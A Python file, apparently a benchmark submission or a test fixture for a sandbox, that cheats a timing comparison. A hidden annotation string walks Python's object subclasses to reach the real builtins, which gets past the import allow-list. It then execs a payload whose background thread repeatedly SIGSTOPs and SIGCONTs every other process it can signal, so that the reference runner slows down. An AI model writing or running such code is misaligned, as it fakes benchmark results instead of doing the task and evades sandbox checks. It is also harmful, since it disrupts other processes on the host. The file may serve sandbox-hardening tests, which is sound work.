"""Make the reference slow from the outside: a background thread keeps sending
SIGSTOP/SIGCONT to every other process it can signal (the reference runner
among them), so the reference's wall time balloons while ours does not. The
reference must run where the submission cannot signal it."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np

import os
import signal
import threading
import time


_me = os.getpid()


def _others():
    pids = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (_me, 1):
            pids.append(int(name))
    return pids


def _harass():
    while True:
        targets = _others()
        for pid in targets:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        time.sleep(0.004)
        for pid in targets:
            try:
                os.kill(pid, signal.SIGCONT)
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=_harass, daemon=True).start()


def transform(x):
    for pid in _others():  # never leave ourselves blocked behind a stopped process
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
